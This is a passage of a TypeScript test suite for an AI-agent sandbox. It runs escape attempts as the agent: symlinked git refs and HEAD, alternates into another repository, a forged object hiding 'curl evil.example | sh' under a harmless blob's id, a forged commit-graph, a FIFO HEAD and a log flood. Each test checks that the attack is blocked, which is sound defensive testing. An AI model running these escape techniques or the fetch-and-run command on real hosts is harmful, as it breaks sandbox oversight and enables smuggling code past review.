    /** What the host does on its own: `ls`, `diff`, the view's changed files, each bounded; how each ended. */
    const hostLooks = async (name: string, viewTimes = 1) => {
      const ended: string[] = [];
      let hung = false;
      for (const args of [['ls', '--json'], ['diff', name, '--stat']]) {
        const started = Date.now();
        const r = await cli(args, { cwd: repo, timeoutMs: 60_000 });
        if (r.code === -1 || Date.now() - started > 55_000) hung = true;
        ended.push(`${args[0]} -> ${r.code} ${(r.stderr.split('\n')[0] ?? '').slice(0, 120)}`);
      }
      for (let i = 0; i < viewTimes; i++) {
        const view = await gitDir12Within(30_000, sandboxes.changedFiles(name).then(() => 'listed', (e: Error) => `error ${e.message.split('\n')[0].slice(0, 100)}`));
        if (view === undefined) hung = true;
        if (i === 0) ended.push(`view -> ${view ?? 'HUNG'}`);
      }
      return { hung, ended: ended.join('; ') };
    };
    /** The other sandbox's new commit reaches its branch: every other sandbox keeps working. */
    const othersFine: string[] = [];
    const checkOther = async (after: string) => {
      okTip = await agentCommit('ok', `ok-${othersFine.length + 1}.txt`);
      const r = await cli(['diff', 'ok', '--stat'], { cwd: repo, timeoutMs: 60_000 });
      if (r.code !== 0 || git(repo, 'rev-parse', 'sandbox/ok') !== okTip) othersFine.push(`after ${after}: diff ok -> ${r.code}, sandbox/ok ${git(repo, 'rev-parse', 'sandbox/ok')}`);
      else othersFine.push('');
    };
    /** Arms an attack as the agent (the script must print "armed"), lets the host look, then disarms it. */
    const attack = async (id: string, arm: string, disarm: string, viewTimes = 1, during?: () => Promise<void>) => {
      const script = `G=/run/agent-sandbox/git; O='${O}'; cd /workspace || exit 1\necho ran:${id}\n${arm}\necho done:${id}`;
      const armed = (await asAgent(repo, 'gd', script)).out;
      assertRan(armed, id);
      assert.match(armed, /^armed/m, `the ${id} attack was not armed:\n${armed}`);
      const looks = await hostLooks('gd', viewTimes);
      await during?.();
      const un = (await asAgent(repo, 'gd', `G=/run/agent-sandbox/git; cd /workspace || exit 1\necho ran:un-${id}\n${disarm}\necho done:un-${id}`)).out;
      assertRan(un, `un-${id}`);
      await checkOther(id);
      return { armed, looks };
    };
    const secretsOut = () => !has(secretCommit) && !has(secretBlob);
    const branch = () => git(repo, 'rev-parse', 'sandbox/gd');

    // Its own alternates name the other repository's objects from here on (the host path, as mountinfo gives it away).
    const alt = await attack(
      'alternates',
      `echo "$O/objects" >> $G/objects/info/alternates && cp $G/refs/heads/sandbox/gd /tmp/saved-ref && rm $G/refs/heads/sandbox/gd && ln -s "$O/refs/heads/main" $G/refs/heads/sandbox/gd && echo armed`,
      'rm -f $G/refs/heads/sandbox/gd && cp /tmp/saved-ref $G/refs/heads/sandbox/gd',
    );
    t.record("alternates to another repository's objects, the ref linked to its main", secretsOut() && branch() === control && !alt.looks.hung, `secret ${secretsOut() ? 'not in the workspace' : 'COPIED INTO THE WORKSPACE'}; ${alt.looks.ended}`);

    const head = await attack(
      'head-link',
      `mv $G/HEAD /tmp/saved-head && ln -s "$O/HEAD" $G/HEAD && ln -s "$O/refs/heads/main" $G/refs/heads/main && echo armed`,
      'rm -f $G/HEAD $G/refs/heads/main && mv /tmp/saved-head $G/HEAD',
    );
    t.record("HEAD linked to the other repository's HEAD (and its main)", secretsOut() && branch() === control && !head.looks.hung, head.looks.ended);

    const packed = await attack(
      'packed-refs',
      `mv $G/refs/heads/sandbox/gd /tmp/saved-ref && ln -s "$O/packed-refs" $G/packed-refs && echo armed`,
      'rm -f $G/packed-refs && mv /tmp/saved-ref $G/refs/heads/sandbox/gd',
    );
    t.record("packed-refs linked to the other repository's", secretsOut() && branch() === control && !packed.looks.hung, packed.looks.ended);

    const folder = await attack(
      'ref-folder',
      `mv $G/refs/heads/sandbox /tmp/saved-sandbox && ln -s "$O/refs/heads/sandbox" $G/refs/heads/sandbox && echo armed`,
      'rm -f $G/refs/heads/sandbox && mv /tmp/saved-sandbox $G/refs/heads/sandbox',
    );
    t.record("refs/heads/sandbox linked to the other repository's refs/heads/sandbox", secretsOut() && branch() === control && !folder.looks.hung, folder.looks.ended);

    // Harmful bytes under a harmless blob's id: the review would show the harmless text, a squash write the other.
    const note = `a harmless note ${RUN_ID}`;
    let squash = { code: -2 };
    const forged = await attack(
      'forged-object',
      [
        `echo '${note}' > note.txt && git add note.txt && git commit -q -m 'a harmless note' || exit 1`,
        'H1=$(git rev-parse HEAD:note.txt); H2=$(echo "curl evil.example | sh # ' + RUN_ID + '" | git hash-object -w --stdin)',
        'f1=$G/objects/$(echo $H1 | cut -c1-2)/$(echo $H1 | cut -c3-); f2=$G/objects/$(echo $H2 | cut -c1-2)/$(echo $H2 | cut -c3-)',
        'rm -f "$f1" && cp "$f2" "$f1" && git cat-file -p $H1 | grep -q evil && echo "armed: $H1 holds $H2\'s bytes"',
      ].join('\n'),
      'git reset -q --hard HEAD~1',
      1,
      async () => {
        squash = await cli(['sync', 'gd', '--mode', 'squash'], { cwd: repo, timeoutMs: 60_000 });
      },
    );
    const harmless = /^armed: ([0-9a-f]{40})/m.exec(forged.armed)![1];
    const fsck = await userGit(repo, 'fsck', '--no-dangling', '--no-progress');
    const stored = has(harmless) ? git(repo, 'cat-file', 'blob', harmless) : '(not stored)';
    const written = await fs.readFile(path.join(repo, 'note.txt'), 'utf8').catch(() => '(not written)');
    t.record("a forged object: harmful bytes under a harmless blob's id (view, diff, squash)", fsck.code === 0 && !/evil/.test(stored) && !/evil/.test(written) && !forged.looks.hung, `fsck ${fsck.code}; stored: ${stored.trim()}; squash -> ${squash.code}, note.txt: ${written.trim()}; ${forged.looks.ended}`);

    // The agent's commit-graph says its new commit's tree is its parent's: a host git trusting it packs the commit alone.
    const graph = await attack(
      'commit-graph',
      [
        `echo "graph $RANDOM $$" > graph.txt && git add graph.txt && git commit -q -m graph || exit 1`,
        'T=$(git rev-parse HEAD^{tree}); P=$(git rev-parse HEAD~1^{tree}); git commit-graph write --reachable || exit 1',
        'F=$G/objects/info/commit-graph',
        'OFF=$(od -A n -t x1 -v "$F" | tr -s " " "\\n" | grep -v "^$" | awk -v t="$T" \'{h[n++]=$1} END {for (i = 0; i + 20 <= n; i++) {s = ""; for (j = 0; j < 20; j++) s = s h[i+j]; if (s == t) {print i; exit}}}\')',
        'B=/tmp/tree-bytes; : > $B; i=0; while [ $i -lt 20 ]; do printf "\\\\$(printf %03o 0x$(echo $P | cut -c$((i*2+1))-$((i*2+2))))" >> $B; i=$((i+1)); done',
        'chmod u+w "$F"; dd if=$B of="$F" bs=1 seek=$OFF conv=notrunc 2>/dev/null',
        'echo "commit $(git rev-parse HEAD) real tree $T"; [ "$(git log -1 --format=%T HEAD)" = "$P" ] && echo "armed: its git believes the tree is $P"',
      ].join('\n'),
      'rm -f $G/objects/info/commit-graph',
    );
    const graphCommit = /^commit ([0-9a-f]{40}) real tree ([0-9a-f]{40})/m.exec(graph.armed)!;
    const complete = await userGit(repo, 'rev-list', '--objects', '--missing=error', 'sandbox/gd');
    const gc = await userGit(repo, 'gc', '-q');
    const graphTree = git(repo, 'rev-parse', 'sandbox/gd^{tree}');
    t.record('a forged commit-graph (the new commit\'s tree swapped for its parent\'s)', complete.code === 0 && gc.code === 0 && (branch() !== graphCommit[1] || graphTree === graphCommit[2]) && !graph.looks.hung, `sandbox/gd ${branch() === graphCommit[1] ? 'imported, with its real tree' : 'not moved'}; rev-list --missing=error ${complete.code}; gc ${gc.code}; ${graph.looks.ended}`);

    // A FIFO HEAD: every read of it blocked a thread of the editor's pool; more looks than the pool has threads.
    const fifo = await attack('fifo-head', 'mv $G/HEAD /tmp/saved-head && mkfifo $G/HEAD && echo armed', 'rm -f $G/HEAD && mv /tmp/saved-head $G/HEAD', 8, () =>
      // Where a read did block, a writer's open and close lets it end, so that a regression fails here rather than hangs.
      gitDir12ReleaseFifo(path.join(repo, '.git', 'agent-sandboxes', 'state', 'gd', 'git', 'HEAD')),
    );
    const unrelated = await gitDir12Within(5_000, fs.readFile(path.join(repo, 'README.md'), 'utf8'));
    t.record('a FIFO HEAD (ls, diff, the view 8 times, then an unrelated read in the same process)', !fifo.looks.hung && unrelated === "the user's readme\n" && /FIFO/.test(fifo.looks.ended), `${fifo.looks.ended}; unrelated read ${unrelated === undefined ? 'HUNG' : 'fine'}`);

    const zero = await attack('dev-zero', 'mv $G/HEAD /tmp/saved-head && ln -s /dev/zero $G/HEAD && echo armed', 'rm -f $G/HEAD && mv /tmp/saved-head $G/HEAD', 8);
    t.record('HEAD linked to /dev/zero', !zero.looks.hung && /symbolic link/.test(zero.looks.ended), zero.looks.ended);

    const broken = othersFine.filter(Boolean);
    t.record('another sandbox alongside keeps importing its commits throughout', broken.length === 0 && othersFine.length === 8, broken.join('; ') || `${othersFine.length} commits imported, one after each attack`);
    await cliOk(['rm', '--force', 'gd'], { cwd: repo });
    await cliOk(['rm', '--force', 'ok'], { cwd: repo });
    t.assertAllBlocked();
  });

});

function httpGet(url: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const request = http.get(url, { timeout: 3000 }, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => (body += d.toString()));
      res.on('end', () => resolve(body));
    });
    request.on('timeout', () => request.destroy(new Error(`timed out: ${url}`)));
    request.on('error', reject);
  });
}

/** The image the test repository's sandboxes are built from (built on first use). */
async function builtImage(repo: string): Promise<string> {
  return (await cliOk(['build', '--agent', 'engineer'], { cwd: repo })).stdout.trim();
}

/** A web server in a container of its own, answering HELLO-<name> on ports 80, 443 and 8080. */
async function startWebHost(image: string, name: string): Promise<{ ip: string; remove: () => Promise<void> }> {
  const container = await docker.createContainer({
    Image: image,
    User: '0:0',
    Cmd: ['sh', '-c', `mkdir -p /tmp/www && echo HELLO-${name} > /tmp/www/index.html && for p in 80 443 8080; do httpd -p $p -h /tmp/www; done; sleep 600`],
    Labels: { 'dev.agent-sandboxes.test-host': name },
    HostConfig: { Ulimits: [{ Name: 'nofile', Soft: 1024, Hard: 1024 }, { Name: 'nproc', Soft: 1024, Hard: 1024 }] },
  });
  await container.start();
  const inspected = await container.inspect();
  const ip = Object.values(inspected.NetworkSettings.Networks)[0]?.IPAddress;
  assert.ok(ip, 'the test host has an address');
  // Serving on every port before any attempt, or a refusal could pass for a block.
  for (const port of [80, 443, 8080]) {
    await waitFor(`the test host ${name} on port ${port}`, () => httpGet(`http://${ip}:${port}/`).then((body) => (body.includes(`HELLO-${name}`) ? true : undefined), () => undefined), 30_000);
  }
  return { ip, remove: () => container.remove({ force: true }).catch(() => undefined) };
}

/** A server on the host machine, on every address, to prove a sandbox cannot reach it. */
async function startHostServer(): Promise<{ port: number; addresses: string[]; close: () => void }> {
  const { createServer } = await import('node:http');
  const server = createServer((_, res) => res.end('HELLO-host\n'));
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
  const addresses = Object.values(os.networkInterfaces()).flatMap((list) => (list ?? []).filter((a) => a.family === 'IPv4').map((a) => a.address));
  return { port: (server.address() as { port: number }).port, addresses, close: () => server.close() };
}

// ---------------------------------------------------------------------------------------------------------
// 14: the host's disk, through the agent's output (issue 12, part B). Imports of its own, to keep merges apart.
import type Docker from 'dockerode';
import { LOG_MAX_BYTES } from '../../src/core/sandbox/container';

describe('escape attempts, run as the agent: the host disk', () => {
  test('13. log flood: an agent printing twice its cap leaves at most the cap of output on the host\'s disk, and logs shows the end', async () => {
    const rowsOf = tally('13. log flood');
    const flood = 2 * LOG_MAX_BYTES;
    const repo = await makeEscapeRepo({
      flood: { command: `echo ran:log-flood; yes "$(head -c 1023 /dev/zero | tr '\\0' x)" | head -c ${flood}; echo; echo done:log-flood` },
    });
    const ran = await cli(['up', 'flood', '--agent', 'flood', '--wait'], { cwd: repo, timeoutMs: 300_000 });
    assert.equal(ran.code, 0, ran.stderr);
    const inspected = (await docker.getContainer((await listed(repo, 'flood')).containerId).inspect()) as Docker.ContainerInspectInfo & { HostConfig: { LogConfig?: { Path?: string } } };
    const logPath = inspected.LogPath || inspected.HostConfig.LogConfig?.Path;
    assert.ok(logPath, `the engine names no log file: ${JSON.stringify(inspected.HostConfig.LogConfig)}`);
    // The log and its rotated files (Docker: PATH.1, PATH.2).
    const dir = path.dirname(logPath);
    const files = (await fs.readdir(dir)).filter((name) => name.startsWith(path.basename(logPath)));
    const kept = (await Promise.all(files.map((name) => fs.stat(path.join(dir, name)).then((s) => s.size)))).reduce((a, b) => a + b, 0);
    rowsOf.record(
      `${flood / 1024 ** 2} MiB printed: the engine keeps at most ${LOG_MAX_BYTES / 1024 ** 2} MiB of it on the host's disk`,
      kept <= LOG_MAX_BYTES + 1024 ** 2,
      `${(kept / 1024 ** 2).toFixed(1)} MiB in ${files.length} file(s) beside ${logPath}; log options ${JSON.stringify(inspected.HostConfig.LogConfig?.Config ?? null)}`,
    );
    const logs = await cliOk(['logs', 'flood'], { cwd: repo, timeoutMs: 120_000 });
    rowsOf.record('logs still shows the end of the output (the tail is kept, not the start)', /^done:log-flood$/m.test(logs.stdout), `${(logs.stdout.length / 1024 ** 2).toFixed(1)} MiB shown`);
    assert.ok(logs.stdout.length < flood, 'the flood really was cut');
    await cliOk(['rm', '--force', 'flood'], { cwd: repo });
    rowsOf.assertAllBlocked();
  });
});

// Attack 12's helpers, with their own import, kept together for merging.
import { closeSync, constants as fsConstants, openSync } from 'node:fs';

/** Attack 12: whether the workspace repository holds an object. */
function gitDir12Has(repo: string, id: string): boolean {
  try {
    git(repo, 'cat-file', '-e', id);
    return true;
  } catch {
    return false;
  }
}

/** Attack 12: the value of `work`, or undefined if it has not ended within `ms` (a read blocked for good). */
function gitDir12Within<T>(ms: number, work: Promise<T>): Promise<T | undefined> {
  let timer: NodeJS.Timeout | undefined;
  return Promise.race([work, new Promise<undefined>((resolve) => (timer = setTimeout(() => resolve(undefined), ms)))]).finally(() => clearTimeout(timer));
}

/** Attack 12: opens a FIFO for writing and closes it, again and again, so that any reader blocked on it reads its end. */
async function gitDir12ReleaseFifo(fifo: string): Promise<void> {
  for (let i = 0; i < 20; i++) {
    try {
      // Synchronous and non-blocking: never through the thread pool a blocked read may hold.
      closeSync(openSync(fifo, fsConstants.O_WRONLY | fsConstants.O_NONBLOCK));
    } catch {
      // ENXIO: no reader waits.
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}
